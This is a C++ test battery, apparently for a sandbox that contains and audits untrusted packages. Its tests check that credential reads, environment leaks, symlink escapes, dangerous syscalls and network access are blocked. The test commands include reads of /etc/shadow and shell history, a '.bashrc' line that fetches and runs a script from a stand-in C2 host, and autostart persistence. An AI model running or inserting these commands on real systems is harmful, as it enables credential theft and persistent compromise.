// Escape and containment battery: each test fails if the sandbox lets the attempt through.
#include <arpa/inet.h>
#include <chrono>
#include <cstdlib>
#include <fcntl.h>
#include <map>
#include <netinet/in.h>
#include <sstream>
#include <sys/socket.h>
#include <sys/stat.h>
#include <unistd.h>

#include "tests/sandbox/sandbox_fixture.h"

namespace vigil::test {
namespace {

namespace fs = std::filesystem;

std::map<std::string, int> parseProbe(const std::string& out) {
    std::map<std::string, int> m;
    std::istringstream in(out);
    std::string line;
    while (std::getline(in, line)) {
        const size_t eq = line.find('=');
        if (eq != std::string::npos)
            m[line.substr(0, eq)] = std::atoi(line.c_str() + eq + 1);
    }
    return m;
}

TEST_F(SandboxTest, HostFilesOutsideTheSandboxAreNotReadable) {
    const std::string secret = "host-secret-" + std::to_string(getpid());
    const fs::path inRoot = "/root/vigil-sentinel-" + std::to_string(getpid());
    const fs::path inTmp = "/tmp/vigil-sentinel-" + std::to_string(getpid());
    writeFile(inRoot, secret);
    writeFile(inTmp, secret);
    const auto r = run({"sh", "-c", "cat " + inRoot.string() + " " + inTmp.string() +
                                        " /etc/shadow /root/.bash_history; ls -a /root /tmp; cat /etc/passwd"});
    fs::remove(inRoot);
    fs::remove(inTmp);
    EXPECT_EQ(r.stdoutTail.find(secret), std::string::npos) << r.stdoutTail;
    EXPECT_EQ(r.stdoutTail.find("vigil-sentinel"), std::string::npos);
    EXPECT_NE(r.stderrTail.find("/etc/shadow: No such file"), std::string::npos) << r.stderrTail;
    // /etc/passwd is the sandbox's own, not the host's.
    EXPECT_NE(r.stdoutTail.find("dev:x:1000:1000"), std::string::npos);
}

TEST_F(SandboxTest, HostEnvironmentIsNotInherited) {
    setenv("VIGIL_HOST_SENTINEL", "leaked-value", 1);
    const auto r = run({"sh", "-c", "env; cat /proc/1/environ | tr '\\0' '\\n'"});
    unsetenv("VIGIL_HOST_SENTINEL");
    EXPECT_EQ(r.stdoutTail.find("VIGIL_HOST_SENTINEL"), std::string::npos);
    EXPECT_EQ(r.stdoutTail.find("leaked-value"), std::string::npos);
    EXPECT_NE(r.stdoutTail.find("HOME=/home/dev\n"), std::string::npos) << r.stdoutTail;
    EXPECT_NE(r.stdoutTail.find("USER=dev\n"), std::string::npos);
    EXPECT_NE(r.stdoutTail.find("PATH=/usr/local/bin:/usr/bin:/bin"), std::string::npos);
}

TEST_F(SandboxTest, WritesLandInTheUpperDirOnlyAndAreListed) {
    const fs::path pkg = makePackage();
    const std::string hostTmp = "/tmp/vigil-written-" + std::to_string(getpid());
    const auto r = run({"sh", "-c",
                        "echo new > created.txt; echo changed >> lib/index.js; rm README.md; chmod 600 package.json;"
                        " mkdir -p build/out && echo o > build/out/x.o;"
                        " echo t > " + hostTmp + "; echo h > /home/dev/.hidden; echo u > /usr/vigil-x; echo e > /etc/vigil-x; true"});
    EXPECT_EQ(r.exitCode, 0) << r.stderrTail;
    // The package on the host is untouched.
    EXPECT_FALSE(fs::exists(pkg / "created.txt"));
    EXPECT_EQ(readFile(pkg / "lib" / "index.js"), "module.exports = 42;\n");
    EXPECT_TRUE(fs::exists(pkg / "README.md"));
    EXPECT_EQ(fs::status(pkg / "package.json").permissions() & fs::perms::all, fs::perms(0644));
    EXPECT_FALSE(fs::exists(hostTmp));
    EXPECT_FALSE(fs::exists("/usr/vigil-x"));
    EXPECT_FALSE(fs::exists("/etc/vigil-x"));
    EXPECT_NE(r.stderrTail.find("Read-only file system"), std::string::npos) << r.stderrTail;
    // The upper dir says exactly what happened to the package.
    std::map<std::string, uint32_t> changes;
    for (const auto& c : r.changes)
        changes[c.path] = c.flags;
    const std::string p = "/home/dev/project/";
    EXPECT_EQ(changes[p + "created.txt"], sbx::FileChange::Created);
    EXPECT_EQ(changes[p + "lib/index.js"], sbx::FileChange::Modified);
    EXPECT_EQ(changes[p + "README.md"], sbx::FileChange::Deleted);
    EXPECT_EQ(changes[p + "package.json"], sbx::FileChange::ModeChanged);
    EXPECT_EQ(changes[p + "build"], sbx::FileChange::Created);
    EXPECT_EQ(changes[p + "build/out/x.o"], sbx::FileChange::Created);
    EXPECT_EQ(changes.count(p + "lib"), 0u) << "a copied-up parent dir is not a change";
}

TEST_F(SandboxTest, WritesToTmpAndTheHomeAreReportedAlongsideThePackage) {
    // No package: the home and /tmp are what a dropper or a persistence trick touches.
    const auto r = run({"sh", "-c",
                        "echo x > /tmp/dropper.sh; mkdir -p /tmp/.cache/a && echo y > /tmp/.cache/a/b;"
                        " echo 'curl -s https://c2.example | sh' >> ~/.bashrc; rm ~/.profile;"
                        " mkdir -p ~/.config/autostart && echo z > ~/.config/autostart/update.desktop;"
                        " echo gone > /tmp/short-lived; rm /tmp/short-lived"});
    ASSERT_EQ(r.exitCode, 0) << r.stderrTail;
    std::map<std::string, uint32_t> changes;
    for (const auto& c : r.changes)
        changes[c.path] = c.flags;
    EXPECT_EQ(changes["/tmp/dropper.sh"], sbx::FileChange::Created);
    EXPECT_EQ(changes["/tmp/.cache"], sbx::FileChange::Created);
    EXPECT_EQ(changes["/tmp/.cache/a/b"], sbx::FileChange::Created);
    EXPECT_EQ(changes["/home/dev/.bashrc"], sbx::FileChange::Modified);
    EXPECT_EQ(changes["/home/dev/.profile"], sbx::FileChange::Deleted);
    EXPECT_EQ(changes["/home/dev/.config/autostart"], sbx::FileChange::Created);
    EXPECT_EQ(changes["/home/dev/.config/autostart/update.desktop"], sbx::FileChange::Created);
    EXPECT_EQ(changes.count("/home/dev/.config"), 0u) << "a copied-up parent dir is not a change";
    EXPECT_EQ(changes.count("/tmp/short-lived"), 0u) << "what is gone at the end is not left behind";
    // The bait files the run only read are not changes.
    EXPECT_EQ(changes.count("/home/dev/.npmrc"), 0u);
}

/// Host pids whose command line contains `needle`.
std::vector<int> processesWith(const std::string& needle) {
    std::vector<int> pids;
    for (const auto& e : fs::directory_iterator("/proc")) {
        const std::string name = e.path().filename();
        if (name.find_first_not_of("0123456789") != std::string::npos)
            continue;
        std::string cmdline = readFile(e.path() / "cmdline");
        for (char& c : cmdline)
            if (c == '\0')
                c = ' ';
        if (cmdline.find(needle) != std::string::npos)
            pids.push_back(std::stoi(name));
    }
    return pids;
}

TEST_F(SandboxTest, BackgroundChildrenDoNotOutliveTheCommand) {
    // A unique sleep length names the run's stragglers on the host.
    const std::string marker = "1000." + std::to_string(getpid());
    const auto start = std::chrono::steady_clock::now();
    const auto r = run({"sh", "-c", "sleep " + marker + " & setsid sleep " + marker + " & "
                                    "(sleep 0.5; echo late > /tmp/late) & nohup sleep " + marker + " >/dev/null 2>&1 & "
                                    "echo started"});
    const auto took = std::chrono::steady_clock::now() - start;
    EXPECT_EQ(r.exitCode, 0) << r.stderrTail;
    EXPECT_EQ(r.stdoutTail, "started\n");
    EXPECT_FALSE(r.anyLimitHit()) << "the run must end with its command, not at a limit";
    EXPECT_LT(took, std::chrono::seconds(5)) << "the background children kept the phase open";
    EXPECT_TRUE(processesWith("sleep " + marker).empty()) << "a background child survived the phase";
    for (const auto& c : r.changes)
        EXPECT_NE(c.path, "/tmp/late") << "a background child went on working after the command exited";
}

TEST_F(SandboxTest, DangerousSyscallsFailWithEperm) {
    addProbe(makePackage());
    const auto r = run({"./probe", "syscalls"});
    ASSERT_EQ(r.exitCode, 0) << r.stderrTail;
    const auto m = parseProbe(r.stdoutTail);
    for (const char* name : {"mount", "umount2", "pivot_root", "bpf", "ptrace_attach", "ptrace_traceme", "unshare_user",
                             "unshare_net", "setns", "clone_newuser", "keyctl", "add_key", "request_key",
                             "perf_event_open", "userfaultfd", "kexec_load", "init_module", "finit_module",
                             "delete_module", "process_vm_readv", "process_vm_writev", "open_by_handle_at", "reboot",
                             "swapon", "swapoff", "acct", "syslog", "iopl", "ioperm", "io_uring_setup", "raw_socket",
                             "packet_socket"}) {
        ASSERT_EQ(m.count(name), 1u) << name << " missing from probe output:\n" << r.stdoutTail;
        EXPECT_EQ(m.at(name), EPERM) << name << " was not refused with EPERM";
    }
    // clone3 must look unimplemented so libc falls back to the clone() the filter can inspect.
    EXPECT_EQ(m.at("clone3"), ENOSYS);
}

TEST_F(SandboxTest, NoNetworkButItsOwnLoopbackAndTheHoneypot) {
    // A listener on the host's loopback: the sandbox must not reach it. Other addresses reach
    // only the honeypot (honeypot_test.cpp shows what it records, and that nothing leaves).
    const int listener = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    ASSERT_EQ(bind(listener, reinterpret_cast<sockaddr*>(&addr), sizeof addr), 0);
    ASSERT_EQ(listen(listener, 4), 0);
    socklen_t len = sizeof addr;
    getsockname(listener, reinterpret_cast<sockaddr*>(&addr), &len);
    const std::string port = std::to_string(ntohs(addr.sin_port));
    addProbe(makePackage());
    const auto r = run({"sh", "-c", "./probe connect 127.0.0.1 " + port + "; ./probe connect 1.1.1.1 53;"
                                    " node -e \"const n=require('net');const s=n.createServer(c=>c.end('pong'))"
                                    ".listen(0,'127.0.0.1',()=>n.connect(s.address().port,'127.0.0.1')"
                                    ".on('data',d=>{console.log('loopback='+d);process.exit(0)}))\""});
    EXPECT_NE(r.stdoutTail.find("connect=" + std::to_string(ECONNREFUSED)), std::string::npos) << r.stdoutTail;
    EXPECT_NE(r.stdoutTail.find("connect=0"), std::string::npos) << "1.1.1.1:53 is the honeypot's\n" << r.stdoutTail;
    EXPECT_NE(r.stdoutTail.find("loopback=pong"), std::string::npos) << r.stdoutTail << r.stderrTail;
    EXPECT_LT(accept(listener, nullptr, nullptr), 0) << "the host listener accepted a connection from the sandbox";
    close(listener);
}

TEST_F(SandboxTest, SetuidBinaryInThePackageGainsNothing) {
    const fs::path pkg = makePackage();
    addProbe(pkg);
    ASSERT_EQ(chown((pkg / "probe").c_str(), 0, 0), 0);
    ASSERT_EQ(chmod((pkg / "probe").c_str(), 06755), 0);
    const auto r = run({"./probe", "ids"});
    EXPECT_EQ(r.stdoutTail, "uid=1000 euid=1000 gid=1000 egid=1000\n") << r.stderrTail;
}

TEST_F(SandboxTest, LooksLikeAnOrdinaryWorkstationUser) {
    const auto r = run({"sh", "-c", "id; uname -n; cat /etc/hostname; echo $HOME; pwd; tr -d '\\0' < /proc/1/cmdline; echo"},
                       [](sbx::RunRequest& q) { q.hostname = "maria-laptop"; });
    EXPECT_EQ(r.stdoutTail, "uid=1000(dev) gid=1000(dev) groups=1000(dev)\nmaria-laptop\nmaria-laptop\n/home/dev\n"
                            "/home/dev\n/sbin/init\n")
        << r.stderrTail;
}

TEST_F(SandboxTest, SymlinksInThePackageResolveInsideTheSandbox) {
    const fs::path pkg = makePackage();
    const std::string secret = "symlink-secret-" + std::to_string(getpid());
    const fs::path target = "/root/vigil-symlink-" + std::to_string(getpid());
    writeFile(target, secret);
    fs::create_symlink(target, pkg / "evil");
    fs::create_symlink("../../../../../../../../etc/hostname", pkg / "escape");
    const auto r = run({"sh", "-c", "cat evil; cat escape"}, [](sbx::RunRequest& q) { q.hostname = "dev-xps13"; });
    fs::remove(target);
    EXPECT_EQ(r.stdoutTail.find(secret), std::string::npos);
    EXPECT_EQ(r.stdoutTail, "dev-xps13\n") << "a relative symlink climbs only to the sandbox's root";
}

TEST_F(SandboxTest, PackageOutsideTheCacheRootIsRefused) {
    const fs::path pkg = makePackage();
    auto r = tryRun({"true"}, [](sbx::RunRequest& q) {
        q.packageDir = "/usr";
    });
    ASSERT_FALSE(r.ok());
    EXPECT_EQ(r.error().code, engine::ErrorCode::Usage);
    EXPECT_NE(r.error().primary.find("not inside the cache root"), std::string::npos) << r.error().describe();
    // A symlink inside the cache pointing out of it is resolved first, then refused the same way.
    fs::create_symlink("/etc", cache_ / "link");
    r = tryRun({"true"}, [this](sbx::RunRequest& q) { q.packageDir = cache_ / "link"; });
    ASSERT_FALSE(r.ok());
    EXPECT_NE(r.error().primary.find("not inside the cache root"), std::string::npos) << r.error().describe();
}

}  // namespace
}  // namespace vigil::test
